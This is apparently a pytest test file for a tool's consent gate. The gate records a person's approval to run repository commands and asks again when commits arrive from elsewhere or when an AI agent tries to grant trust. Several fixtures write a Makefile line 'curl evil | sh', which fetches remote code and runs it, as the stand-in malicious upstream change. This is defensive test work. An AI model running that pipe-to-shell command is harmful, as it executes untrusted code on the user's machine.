"""A person consents once for a working tree and its commit; what came from elsewhere is asked for
again.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import helpers
import pytest

from skillrun.core.actor import Actor, ActorKind
from skillrun.core.errors import Blocked, Refused
from skillrun.core.state import state_dir
from skillrun.repo.git import open_repo
from skillrun.validations import consent
from skillrun.validations.consent import CommandPlan, Consent, Gate, Question

AGENT = Actor("me", ActorKind.AGENT, "claude-code")
PERSON = Actor("me", ActorKind.HUMAN)
SCRIPT = Actor("me", ActorKind.UNKNOWN)
PIPELINE = Actor("github-actions", ActorKind.CI)
PLAN = CommandPlan("try it", ("make test",))


class Person:
    """Who answers each question in the same way, and remembers what was asked and shown."""

    def __init__(self, answer: str | None = None) -> None:
        self.answer = answer
        self.asked: list[Question] = []
        self.ran: list[CommandPlan] = []

    def may_run(self, question: Question) -> str | None:
        self.asked.append(question)
        return self.answer

    def runs(self, plan: CommandPlan) -> None:
        self.ran.append(plan)


@pytest.fixture
def upstream(tmp_path: Path) -> Path:
    """A repository that others push to."""
    return helpers.build_tree(tmp_path / "upstream", {"Makefile": "test:\n\ttrue\n"})


@pytest.fixture
def clone(tmp_path: Path, upstream: Path) -> Path:
    """A clone of it, for which somebody has said yes."""
    helpers.git(tmp_path, "clone", "--quiet", str(upstream), str(tmp_path / "clone"))
    give(tmp_path / "clone")
    return tmp_path / "clone"


def give(root: Path) -> None:
    Consent(open_repo(root)).give("terminal", ["make test"])


def covered(root: Path) -> bool:
    return Consent(open_repo(root)).covers_head()


def edit(root: Path, text: str = "test:\n\techo edited\n") -> None:
    (root / "Makefile").write_text(text)


# -- made here


def test_one_answer_holds_for_the_tree_whatever_is_edited_in_it(clone: Path) -> None:
    assert covered(clone)
    edit(clone)
    (clone / "new.py").write_text("print()\n")
    assert covered(clone)


def commit_twice(root: Path) -> None:
    edit(root)
    helpers.commit(root, "One")
    helpers.commit(root, "Two: merge: pull: of words")


def amend(root: Path) -> None:
    edit(root)
    helpers.git(root, "commit", "--all", "--quiet", "--amend", "--message", "Other words")


def commit_and_go_back(root: Path) -> None:
    commit_twice(root)
    helpers.git(root, "reset", "--quiet", "--hard", "HEAD~1")


def commit_on_a_branch(root: Path) -> None:
    helpers.git(root, "checkout", "--quiet", "-b", "work")
    commit_twice(root)
    helpers.git(root, "checkout", "--quiet", "main")
    helpers.git(root, "checkout", "--quiet", "work")


def squash(root: Path) -> None:
    commit_twice(root)
    helpers.git(root, "reset", "--quiet", "--soft", "HEAD~2")
    helpers.commit(root, "One of two")


def merge_own_branch(root: Path) -> None:
    commit_on_a_branch(root)
    helpers.git(root, "checkout", "--quiet", "main")
    helpers.git(root, "merge", "--quiet", "work")


def branch_off(root: Path) -> None:
    """A branch and main, each with a commit of its own."""
    helpers.git(root, "checkout", "--quiet", "-b", "work")
    edit(root)
    helpers.commit(root, "One")
    helpers.git(root, "checkout", "--quiet", "main")
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Beside it")


def merge_own_beside(root: Path) -> None:
    branch_off(root)
    helpers.git(root, "merge", "--quiet", "--no-edit", "work")


def merge_own_in_two_steps(root: Path) -> None:
    branch_off(root)
    helpers.git(root, "merge", "--quiet", "--no-commit", "work")
    assert covered(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def squash_own_branch(root: Path) -> None:
    branch_off(root)
    helpers.git(root, "merge", "--quiet", "--squash", "work")
    assert covered(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def stash_and_pop(root: Path) -> None:
    edit(root)
    helpers.git(root, "stash", "--quiet")
    assert covered(root)
    helpers.git(root, "stash", "pop", "--quiet")


def push_what_was_amended(root: Path) -> None:
    edit(root)
    helpers.commit(root, "One")
    helpers.git(root, "commit", "--quiet", "--amend", "--message", "Other words")
    helpers.git(root, "push", "--quiet", "origin", "HEAD:refs/heads/mine")


@pytest.mark.parametrize(
    "work",
    [
        *(commit_twice, amend, commit_and_go_back, commit_on_a_branch, squash, merge_own_branch),
        *(merge_own_beside, merge_own_in_two_steps, squash_own_branch, stash_and_pop),
        push_what_was_amended,
    ],
)
def test_what_is_committed_here_asks_nothing_more(
    clone: Path, work: Callable[[Path], None]
) -> None:
    work(clone)
    assert covered(clone)


def test_a_repository_before_its_first_commit(tmp_path: Path) -> None:
    root = tmp_path / "new"
    root.mkdir()
    helpers.git(root, "init", "--quiet")
    assert not covered(root)
    give(root)
    edit(root)
    helpers.commit(root, "First")
    helpers.commit(root, "Second")
    assert covered(root)


def test_what_git_forgets_of_its_own_steps_is_not_asked_again(clone: Path) -> None:
    commit_twice(clone)
    assert covered(clone)
    helpers.git(clone, "reflog", "expire", "--expire=all", "--all")
    assert covered(clone)


# -- from elsewhere


def pull(root: Path) -> None:
    helpers.git(root, "pull", "--quiet", "--ff-only")


def pull_onto_own(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "pull", "--quiet", "--rebase")


def merge_fetched(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "merge", "--quiet", "--no-edit", "origin/main")


def forward_by_merge(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "merge", "--quiet", "origin/main")


def reset_to_fetched(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "reset", "--quiet", "--hard", "origin/main")


def check_out_fetched(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "--detach", "origin/main")


def pick(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "cherry-pick", "origin/main")


def commit_on_fetched(root: Path) -> None:
    check_out_fetched(root)
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine, on theirs")


def disguise(root: Path) -> None:
    """Two commits at once under the name of one: no `git commit` does that."""
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "update-ref", "-m", "commit: mine", "HEAD", "origin/main")
    helpers.git(root, "reset", "--quiet", "--hard")


FROM_ELSEWHERE = [
    pull,
    pull_onto_own,
    merge_fetched,
    forward_by_merge,
    reset_to_fetched,
    check_out_fetched,
    pick,
    commit_on_fetched,
    disguise,
]


@pytest.mark.parametrize("arrive", FROM_ELSEWHERE)
def test_commits_from_elsewhere_ask_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    helpers.commit(upstream, "Harmless")
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)
    edit(clone)
    helpers.commit(clone, "Mine")
    assert covered(clone)


def put_own_beside(root: Path) -> None:
    (root / "own.txt").write_text("mine\n")
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")


def merge_without_commit(root: Path) -> None:
    put_own_beside(root)
    helpers.git(root, "merge", "--quiet", "--no-commit", "FETCH_HEAD")


def pull_squashed(root: Path) -> None:
    put_own_beside(root)
    helpers.git(root, "pull", "--quiet", "--squash", "--no-rebase")


def pick_with_conflict(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "cherry-pick", "origin/main")


def rebase_with_conflict(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "rebase", "origin/main")


def apply_mail(root: Path) -> None:
    edit(root)
    helpers.commit(root, "Mine")
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "format-patch", "--quiet", "-1", "--output", "../mail", "origin/main")
    with contextlib.suppress(AssertionError):  # it stops at the conflict
        helpers.git(root, "am", "../mail")


ARRIVING = [
    merge_without_commit,
    pull_squashed,
    pick_with_conflict,
    rebase_with_conflict,
    apply_mail,
]


@pytest.mark.parametrize("arrive", ARRIVING)
def test_what_is_on_its_way_into_a_commit_asks_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)


def squash_and_commit(root: Path) -> None:
    pull_squashed(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def squash_in_other_words(root: Path) -> None:
    helpers.git(root, "pull", "--quiet", "--squash")
    helpers.git(root, "commit", "--quiet", "--message", "Mine")


def merge_and_commit(root: Path) -> None:
    merge_without_commit(root)
    helpers.git(root, "commit", "--quiet", "--no-edit")


def check_out_files(root: Path) -> None:
    helpers.git(root, "fetch", "--quiet")
    helpers.git(root, "checkout", "--quiet", "FETCH_HEAD", "--", ".")
    assert covered(root)  # for git it is an edit
    helpers.git(root, "commit", "--quiet", "--message", "Mine")


@pytest.mark.parametrize(
    "arrive", [squash_and_commit, squash_in_other_words, merge_and_commit, check_out_files]
)
def test_what_was_fetched_and_committed_here_asks_again(
    clone: Path, upstream: Path, arrive: Callable[[Path], None]
) -> None:
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    arrive(clone)
    assert not covered(clone)


def test_the_commit_before_the_one_that_was_shown_is_another_one(clone: Path) -> None:
    edit(clone, "test:\n\tcurl evil | sh\n")
    helpers.commit(clone, "Evil")
    helpers.git(clone, "revert", "--no-edit", "HEAD")
    other = clone.with_name("other")
    helpers.git(clone.parent, "clone", "--quiet", str(clone), str(other))
    give(other)
    helpers.git(other, "reset", "--quiet", "--hard", "HEAD~1")
    assert not covered(other)


def test_other_working_trees_ask_for_themselves(clone: Path) -> None:
    helpers.git(clone, "worktree", "add", "--quiet", "-b", "side", str(clone.with_name("side")))
    helpers.git(clone.parent, "clone", "--quiet", str(clone), str(clone.with_name("second")))
    shutil.copytree(clone, clone.with_name("copy"), symlinks=True)
    for name in ("side", "second", "copy"):
        assert not covered(clone.with_name(name))


def test_a_later_clone_at_the_same_path_asks(clone: Path, upstream: Path) -> None:
    shutil.rmtree(clone)
    edit(upstream, "test:\n\tcurl evil | sh\n")
    helpers.commit(upstream, "Theirs")
    helpers.git(clone.parent, "clone", "--quiet", str(upstream), str(clone))
    assert not covered(clone)


def take_identity(record: Path, root: Path) -> Path:
    """Puts the answers of another tree in the place of this one's, as if it had the same path and
    inodes.
    """
    consent = Consent(open_repo(root))
    value = json.loads(record.read_text()) | {"worktree": consent.identity}
    consent.path.write_text(json.dumps(value))
    consent.path.chmod(0o600)
    return consent.path


def test_a_later_clone_with_the_very_same_inodes_asks(clone: Path, upstream: Path) -> None:
    record = Consent(open_repo(clone)).path
    shutil.rmtree(clone)
    helpers.git(clone.parent, "clone", "--quiet", str(upstream), str(clone))
    take_identity(record, clone)
    assert not covered(clone)
    give(clone)
    assert covered(clone)


def marks(root: Path) -> list[Path]:
    return list((root / ".git").glob("skillrun-*"))


def test_the_mark_of_a_tree_is_its_owners_and_no_link(clone: Path, tmp_path: Path) -> None:
    (mark,) = marks(clone)
    assert mark.stat().st_mode & 0o777 == 0o600
    mark.rename(tmp_path / "elsewhere")
    mark.symlink_to(tmp_path / "elsewhere")
    assert not covered(clone)
    give(clone)
    assert covered(clone)
    assert len((tmp_path / "elsewhere").read_text()) == 32


def test_reading_writes_no_mark_and_taking_back_removes_it(upstream: Path) -> None:
    assert not covered(upstream)
    assert not marks(upstream)
    give(upstream)
    assert Consent(open_repo(upstream)).revoke()
    assert not marks(upstream)


def test_a_mark_that_came_with_the_tree_is_not_taken_over(clone: Path) -> None:
    (mark,) = marks(clone)
    known = mark.read_text()
    Consent(open_repo(clone)).path.unlink()
    give(clone)
    assert mark.read_text() != known


def test_a_git_folder_that_a_group_may_write_is_no_hindrance(clone: Path) -> None:
    (clone / ".git").chmod(0o775)
    give(clone)
    assert covered(clone)


def test_a_linked_worktree_is_marked_in_its_own_folder(clone: Path) -> None:
    side = clone.with_name("side")
    helpers.git(clone, "worktree", "add", "--quiet", "-b", "side", str(side))
    give(side)
    assert covered(side)
    assert len(list((clone / ".git" / "worktrees" / "side").glob("skillrun-*"))) == 1


def test_a_link_to_the_tree_is_the_tree(clone: Path) -> None:
    link = clone.with_name("link")
    link.symlink_to(clone)
    assert covered(link)


# -- the record


def test_only_the_owner_can_read_it(clone: Path) -> None:
    path = Consent(open_repo(clone)).path
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    assert path.is_relative_to(state_dir())


@pytest.mark.parametrize(
    "content", [b"", b"{}", b"[]", b'{"schema_version": 2}', b"\xff", b"[" * 1_000_000]
)
def test_a_broken_record_is_none(clone: Path, content: bytes) -> None:
    Consent(open_repo(clone)).path.write_bytes(content)
    assert not covered(clone)


def test_the_record_of_another_tree_is_none(clone: Path, tmp_path: Path) -> None:
    other = helpers.build_tree(tmp_path / "other", {"a": "b"})
    shutil.copy(Consent(open_repo(clone)).path, Consent(open_repo(other)).path)
    assert not covered(other)


def test_a_record_that_others_could_have_written_is_none(clone: Path, tmp_path: Path) -> None:
    path = Consent(open_repo(clone)).path
    path.chmod(0o666)
    assert not covered(clone)
    path.chmod(0o600)
    path.parent.chmod(0o777)
    assert not covered(clone)
    path.parent.chmod(0o700)
    assert covered(clone)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    assert not covered(clone)


def test_a_pipe_in_its_place_is_none_at_once(clone: Path) -> None:
    path = Consent(open_repo(clone)).path
    path.unlink()
    os.mkfifo(path, 0o600)
    assert not covered(clone)


def test_a_state_folder_in_the_repository_allows_nothing(
    clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = Consent(open_repo(clone))
    monkeypatch.setenv("SKILLRUN_STATE_DIR", str(clone / ".skillrun" / "state"))
    inside = Consent(open_repo(clone))
    inside.store.mkdir(mode=0o700, parents=True)
    shutil.copy(outside.path, inside.path)
    assert not covered(clone)
    with pytest.raises(Blocked, match="inside of the repository"):
        give(clone)


def test_a_store_that_cannot_be_written_says_where_and_what_to_do(
    clone: Path, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("")
    kept = Consent(open_repo(clone), tmp_path / "file" / "consent")
    with pytest.raises(Blocked, match=r"consent: the consent cannot be kept: ") as caught:
        kept.give("terminal")
    assert "SKILLRUN_STATE_DIR" in str(caught.value.hint)
    assert not kept.covers_head()


def test_a_record_remembers_by_what_means(clone: Path) -> None:
    (given,) = json.loads(Consent(open_repo(clone)).path.read_text())["given"]
    assert (given["how"], given["commands"]) == ("terminal", ["make test"])
    assert Consent(open_repo(clone)).revoke()
    assert not covered(clone)


def test_a_revoke_in_between_is_not_undone(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    edit(clone)
    helpers.commit(clone, "Mine")
    looks = consent.find_commits_made_here

    def look_slowly(root: Path, known: Mapping[str, str]) -> dict[str, str]:
        assert Consent(open_repo(root)).revoke()
        return looks(root, known)

    monkeypatch.setattr(consent, "find_commits_made_here", look_slowly)
    assert not covered(clone)
    assert not Consent(open_repo(clone)).path.exists()


def test_answers_at_once_are_all_kept(clone: Path) -> None:
    with ThreadPoolExecutor(8) as pool:
        waiting = [pool.submit(give, clone) for _ in range(16)]
    assert [one.result() for one in waiting] == [None] * 16
    assert len(Consent(open_repo(clone)).read().given) == 17


@pytest.mark.skipif(os.geteuid() == 0, reason="root may remove anything")
def test_an_answer_that_cannot_be_taken_back_is_said(clone: Path) -> None:
    kept = Consent(open_repo(clone))
    kept.store.chmod(0o500)
    with pytest.raises(Refused, match="cannot be taken back"):
        kept.revoke()
    kept.store.chmod(0o700)


# -- who is asked, who may say so


def test_a_person_is_asked_once_and_sees_each_time_what_runs(tmp_path: Path) -> None:
    root = helpers.build_tree(tmp_path / "repo", {"a": "b"})
    person = Person("terminal")
    more = [CommandPlan("check it", ("make test", "make lint"))]
    gate = Gate(open_repo(root), False, person, plans=lambda: more, actor=PERSON)
    assert gate.allows(PLAN)
    assert gate.allows(more[0])
    (question,) = person.asked
    assert question.root == root
    assert [plan.commands for plan in question.plans] == [("make test",), ("make lint",)]
    assert person.ran == [PLAN, more[0]]


def test_a_no_is_asked_for_once_and_runs_nothing(tmp_path: Path) -> None:
    root = helpers.build_tree(tmp_path / "repo", {"a": "b"})
    person = Person(None)
    gate = Gate(open_repo(root), False, person, actor=PERSON)
    assert not gate.allows(PLAN)
    assert not gate.allows(PLAN)
    assert len(person.asked) == 1
    assert person.ran == []


@pytest.mark.parametrize(
    ("actor", "counts"), [(AGENT, False), (PERSON, True), (SCRIPT, True), (PIPELINE, True)]
)
def test_whose_trust_counts(
    tmp_path: Path, actor: Actor, counts: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    root = helpers.build_tree(tmp_path / "repo", {"a": "b"})
    assert Gate(open_repo(root), True, Person(), actor=actor).allows(PLAN) == counts
    assert ("claude-code is an agent" in capsys.readouterr().err) != counts


def test_an_agent_may_say_it_where_a_person_allowed_it(clone: Path, upstream: Path) -> None:
    Consent(open_repo(clone)).allow_agents(trust=True)
    helpers.commit(upstream, "Theirs")
    pull(clone)
    assert Gate(open_repo(clone), True, Person(), actor=AGENT).allows(PLAN)


def test_an_agent_works_on_where_a_person_has_consented(clone: Path) -> None:
    edit(clone)
    helpers.commit(clone, "The agent's")
    assert Gate(open_repo(clone), False, Person(), actor=AGENT).allows(PLAN)


@pytest.mark.skipif(os.uname().sysname == "Darwin", reason="XDG is not used there")
def test_where_the_answers_are(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = helpers.build_tree(tmp_path / "repo", {"a": "b"})
    monkeypatch.setenv("SKILLRUN_STATE_DIR", str(tmp_path / "chosen"))
    assert Consent(open_repo(root)).store == tmp_path / "chosen" / "consent"
    monkeypatch.delenv("SKILLRUN_STATE_DIR")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    assert state_dir() == tmp_path / "xdg" / "skillrun"
    monkeypatch.setenv("XDG_STATE_HOME", "relative")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert state_dir() == tmp_path / "home" / ".local" / "state" / "skillrun"
